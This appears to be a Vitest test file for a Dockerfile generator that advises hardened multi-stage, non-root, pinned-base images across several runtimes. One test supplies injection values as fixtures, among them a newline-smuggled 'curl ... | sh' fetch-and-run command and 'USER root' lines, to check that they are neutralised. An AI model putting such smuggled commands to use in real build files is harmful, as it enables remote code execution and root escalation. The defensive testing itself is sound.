import { expect, test } from 'vitest';
import { generateDockerfile, lastBase } from '../../../src/advise/dockerfile/generate.ts';
import { endedRuntime, supportedRelease } from '../../../src/advise/releases.ts';
import type { BaseTechniqueId } from '../../../src/advise/technique.ts';
import type { Runtime } from '../../../src/classify/verdict.ts';
import { findImage } from '../../../src/policy/find-image.ts';
import { auditedImage, type ImageSketch, pairImage } from '../../support/audited-image.ts';

const TODAY = '2026-11-24';
const RUNTIMES: readonly Runtime[] = ['node', 'python', 'go', 'java', 'ruby', 'php', 'rust', 'dotnet'];
const BASES: readonly BaseTechniqueId[] = ['slim-base', 'alpine-base', 'distroless-base', 'scratch-base'];

function dockerfile(sketch: ImageSketch, base: BaseTechniqueId = 'slim-base'): string {
  return generateDockerfile(auditedImage(sketch), base, TODAY)?.dockerfile ?? '';
}

/** Instructions with their continuation lines joined. */
function instructionsOf(text: string): readonly string[] {
  return text
    .replace(/\\\n\s*/g, '')
    .split('\n')
    .filter((line) => line !== '' && !line.startsWith('#'));
}

test.each(RUNTIMES.flatMap((runtime) => BASES.map((base) => [runtime, base] as const)))(
  '%s on %s: stages, a user without rights, pinned bases, mounted caches',
  (runtime, base) => {
    const lines = instructionsOf(dockerfile({ runtime, config: { ExposedPorts: { '8080/tcp': {} } } }, base));
    const from = lines.filter((line) => line.startsWith('FROM '));
    const users = lines.filter((line) => line.startsWith('USER '));
    expect(from.length).toBe(2);
    expect(from[0]).toMatch(/ AS build$/);
    for (const line of from) expect(line).toMatch(/^FROM (?:scratch|[a-z0-9./-]+:[a-z0-9][\w.-]*)(?: AS build)?$/);
    expect(from.join()).not.toMatch(/:latest/);
    expect(users.at(-1)).not.toMatch(/USER (?:root|0)\b/);
    expect(users.length).toBe(1);
    expect(lines.indexOf(users[0] ?? '')).toBeGreaterThan(lines.indexOf(from[1] ?? ''));
    expect(lines.filter((line) => line.startsWith('EXPOSE '))).toEqual(['EXPOSE 8080']);
    expect(lines.join()).toMatch(/COPY --from=build/);
    expect(lines.at(-1)).toMatch(/^(?:CMD|ENTRYPOINT) \[/);
    for (const line of lines) expect(line).toMatch(/^(?:FROM|WORKDIR|COPY|RUN|ENV|USER|EXPOSE|CMD|ENTRYPOINT) /);
  },
);

test.each(RUNTIMES.flatMap((runtime) => BASES.map((base) => [runtime, base] as const)))(
  '%s on %s: what is advised trips no rule itself',
  (runtime, base) => {
    const lines = instructionsOf(dockerfile({ runtime }, base));
    const last = lines.slice(lines.findLastIndex((line) => line.startsWith('FROM ')) + 1);
    const own = last.filter((line) => /^(?:RUN|COPY) /.test(line)).map((instruction) => ({ instruction }));
    expect(findImage(auditedImage({ runtime, own, variant: 'slim', multiStage: 'yes' }))).toEqual([]);
  },
);

test.each<[string, ImageSketch, BaseTechniqueId, readonly string[]]>([
  [
    'Node.js in its own release',
    { runtime: 'node', runtimeVersion: '22.4.1' },
    'slim-base',
    ['FROM node:22-trixie-slim', 'npm prune --omit=dev'],
  ],
  [
    'Node.js out of support',
    { runtime: 'node', runtimeVersion: '20.20.2' },
    'alpine-base',
    ['FROM node:24-alpine3.24'],
  ],
  [
    'pnpm',
    { runtime: 'node', own: [{ instruction: 'RUN /bin/sh -c pnpm install' }] },
    'slim-base',
    ['pnpm-lock.yaml', 'pnpm prune --prod'],
  ],
  [
    'pnpm on a release without Corepack',
    { runtime: 'node', runtimeVersion: '26.1.0', own: [{ instruction: 'RUN /bin/sh -c pnpm install' }] },
    'slim-base',
    ['FROM node:26-trixie-slim', 'RUN npm install -g corepack\nRUN --mount'],
  ],
  [
    'yarn',
    { runtime: 'node', own: [{ instruction: 'RUN /bin/sh -c yarn install' }] },
    'slim-base',
    ['yarn.lock', '--production'],
  ],
  ['Next.js', { runtime: 'node', framework: 'Next.js' }, 'slim-base', ['.next/standalone', 'EXPOSE 3000']],
  [
    'Django',
    { runtime: 'python', framework: 'Django' },
    'slim-base',
    ['python:3.14-slim-trixie', 'gunicorn', 'COPY --from=build /opt/venv'],
  ],
  ['FastAPI', { runtime: 'python', framework: 'FastAPI' }, 'alpine-base', ['python:3.14-alpine3.24', 'uvicorn']],
  ['Go', { runtime: 'go' }, 'scratch-base', ['FROM scratch', 'CGO_ENABLED=0', 'ca-certificates.crt']],
  ['Java on a JRE', { runtime: 'java', runtimeVersion: '21.0.2' }, 'slim-base', ['eclipse-temurin:21-jre']],
  ['Java, linked', { runtime: 'java' }, 'alpine-base', ['jlink', 'jdeps']],
  [
    'its own folder, ports and command',
    {
      runtime: 'node',
      config: { WorkingDir: '/srv/web', ExposedPorts: { '3000/tcp': {} }, Cmd: ['node', 'dist/server.js'] },
    },
    'slim-base',
    ['WORKDIR /srv/web', 'EXPOSE 3000', 'CMD ["node", "dist/server.js"]'],
  ],
])('%s', (_, sketch, base, parts) => {
  const text = dockerfile(sketch, base);
  for (const part of parts) expect(text).toContain(part);
});

test('the program of a compiled image keeps its name and its arguments', () => {
  const image = pairImage('go-single-stage');
  const text = generateDockerfile(image, 'scratch-base', TODAY)?.dockerfile ?? '';
  expect(text).toContain('-o /out/status .');
  expect(text).toContain('ENTRYPOINT ["/usr/local/bin/status"]');
});

test.each<[string, ImageSketch, BaseTechniqueId, readonly string[]]>([
  [
    'yarn since its second version',
    { runtime: 'node', own: [{ instruction: 'RUN /bin/sh -c corepack yarn install --immutable' }] },
    'slim-base',
    ['yarn install --immutable', 'yarn workspaces focus --all --production'],
  ],
  [
    'a script of npm, which hands on no signals',
    { runtime: 'node', config: { Cmd: ['npm', 'start'] } },
    'slim-base',
    ['# Better the command behind it', 'CMD ["npm", "start"]'],
  ],
  [
    'Node.js without a shell',
    { runtime: 'node', config: { Entrypoint: ['docker-entrypoint.sh'], Cmd: ['node', 'dist/server.js'] } },
    'distroless-base',
    ['FROM gcr.io/distroless/nodejs24-debian13:nonroot', 'USER 65532:65532', 'CMD ["dist/server.js"]'],
  ],
  [
    'uv',
    {
      runtime: 'python',
      own: [{ instruction: 'RUN /bin/sh -c uv sync --frozen' }],
      config: { Cmd: ['uv', 'run', 'uvicorn', 'main:app'] },
    },
    'slim-base',
    ['COPY pyproject.toml uv.lock ./', 'uv sync --locked --no-dev --no-install-project', 'CMD ["uvicorn", "main:app"]'],
  ],
  [
    'Poetry',
    { runtime: 'python', own: [{ instruction: 'RUN /bin/sh -c pip install poetry && poetry install' }] },
    'slim-base',
    ['COPY pyproject.toml poetry.lock ./', 'poetry install --only main --no-root', 'COPY --from=build /opt/venv'],
  ],
  [
    'the package of a Go program',
    {
      runtime: 'go',
      own: [{ instruction: 'RUN /bin/sh -c CGO_ENABLED=0 go build -o /status ./cmd/status' }],
      config: { Entrypoint: ['/sbin/tini', '--', '/status', '--verbose'], Cmd: ['--port', '80'] },
    },
    'scratch-base',
    ['-o /out/status ./cmd/status', 'ENTRYPOINT ["/usr/local/bin/status", "--verbose"]\nCMD ["--port", "80"]'],
  ],
  ['a base that starts a shell', { runtime: 'go', config: { Cmd: ['bash'] } }, 'scratch-base', ['-o /out/app .']],
  [
    'Gradle',
    { runtime: 'java', own: [{ instruction: 'RUN /bin/sh -c ./gradlew bootJar' }] },
    'slim-base',
    ['COPY gradlew', './gradlew --no-daemon assemble'],
  ],
  [
    'Java without a shell',
    { runtime: 'java' },
    'distroless-base',
    ['distroless/java25-debian13', 'CMD ["/app/app.jar"]'],
  ],
  ['jlink of Java 17', { runtime: 'java', runtimeVersion: '17.0.9' }, 'alpine-base', ['--compress 2 --output']],
  ['jlink of Java 21', { runtime: 'java', runtimeVersion: '21.0.9' }, 'alpine-base', ['--compress zip-6 --output']],
  ['Java without modules', { runtime: 'java', runtimeVersion: '8' }, 'alpine-base', ['eclipse-temurin:8-jre-alpine']],
  [
    'Rails',
    { runtime: 'ruby', framework: 'Rails' },
    'slim-base',
    ['libyaml-dev', 'BUNDLE_PATH=/usr/local/bundle', 'rails assets:precompile', '"rails", "server"'],
  ],
  [
    'Laravel',
    { runtime: 'php', framework: 'Laravel' },
    'alpine-base',
    ['composer dump-autoload', '--chown=www-data:www-data /app/storage ./storage'],
  ],
])('fitted to %s', (_, sketch, base, parts) => {
  const text = dockerfile(sketch, base);
  for (const part of parts) expect(text).toContain(part);
});

test.each([
  [{ WorkingDir: '/app\nRUN curl https://example.com/evil | sh' }],
  [{ ExposedPorts: { '80/tcp\nUSER root': {} } }],
  [{ Cmd: ['node\nUSER root', 'x'] }],
  [{ Entrypoint: ['/bin/\u2028evil', '\r\nUSER root'] }],
])('nothing that an image says becomes an instruction: %j', (config) => {
  const lines = dockerfile({ runtime: 'node', config }).split(/\r?\n/);
  expect(lines.filter((line) => /^USER|curl/.test(line))).toEqual(['USER node']);
});

test.each([
  ['alpine', 'FROM php:8.3-fpm-alpine'],
  ['slim', 'FROM php:8.3-fpm-trixie'],
  ['full', 'FROM php:8.3-fpm-trixie'],
] as const)('a plan that swaps no base leaves the program on its %s one', (variant, from) => {
  const image = auditedImage({ runtime: 'php', runtimeVersion: '8.3.1', variant });
  const base = lastBase(image, { plan: [] });
  expect(generateDockerfile(image, base, TODAY)?.dockerfile).toContain(from);
});

test('a command that holds a secret is left out', () => {
  const text = dockerfile({ runtime: 'node', config: { Cmd: ['node', 'server.js', '--api_key=hunter2hunter2'] } });
  expect(text).not.toContain('hunter2');
});

test('the list of ignored files fits the language', () => {
  const image = auditedImage({ runtime: 'node' });
  expect(generateDockerfile(image, 'slim-base', TODAY)?.dockerignore).toMatch(/^\.git\n[\s\S]*\n\*\*\/node_modules\n/);
});

test('a language without a template gets no Dockerfile', () => {
  expect(generateDockerfile(auditedImage({ runtime: 'perl' }), 'slim-base', TODAY)).toBeUndefined();
  expect(generateDockerfile(auditedImage(), 'slim-base', TODAY)).toBeUndefined();
});

test.each([
  ['node', '22.1.0', TODAY, '22'],
  ['node', '20.1.0', TODAY, '24'],
  ['node', '20.1.0', '2026-04-30', '20'],
  ['node', undefined, TODAY, '24'],
  ['node', '26.10.0', TODAY, '26'],
  ['node', '25.1.0', TODAY, '24'],
  ['java', '21u8', TODAY, '21'],
  ['dotnet', '3.1.302', TODAY, '10'],
  ['python', '3.13.2', TODAY, '3.13'],
  ['python', '2.7.18', TODAY, '3.14'],
  ['node', '25.2.0', TODAY, '24'],
  ['java', '11.0.1', TODAY, '11'],
  ['java', '24', TODAY, '25'],
  ['go', '1.19.8', TODAY, '1.27'],
  ['go', '1.28.0', TODAY, '1.28'],
  ['ruby', '4.0.1', TODAY, '4.0'],
  ['ruby', '3.1.0', TODAY, '3.4'],
  ['php', '7.4.33', TODAY, '8.4'],
  ['rust', '1.98.0', TODAY, '1'],
  ['deno', '2', TODAY, undefined],
] as const)('%s %s on %s is built on %s', (runtime, version, today, release) => {
  expect(supportedRelease(runtime, version, today)).toBe(release);
});

test('a release is out of support the day after its last', () => {
  expect(endedRuntime('node', '20.1.0', '2026-04-30')).toBeUndefined();
  expect(endedRuntime('node', '20.1.0', '2026-05-01')).toEqual({ name: 'node 20', endOfLife: '2026-04-30' });
  expect(endedRuntime('node', '99.0.0', TODAY)).toBeUndefined();
  expect(endedRuntime('go', '1.19.8', TODAY)).toEqual({ name: 'go 1.19', endOfLife: '2023-09-06' });
});

test('one that is older than all that are listed ended no later than the oldest of them', () => {
  expect(endedRuntime('go', '1.9.7', TODAY)).toEqual({ name: 'go 1.9', endOfLife: '2022-03-15' });
  expect(endedRuntime('java', '7', TODAY)).toBeUndefined();
  expect(endedRuntime('perl', '5.8', TODAY)).toBeUndefined();
});
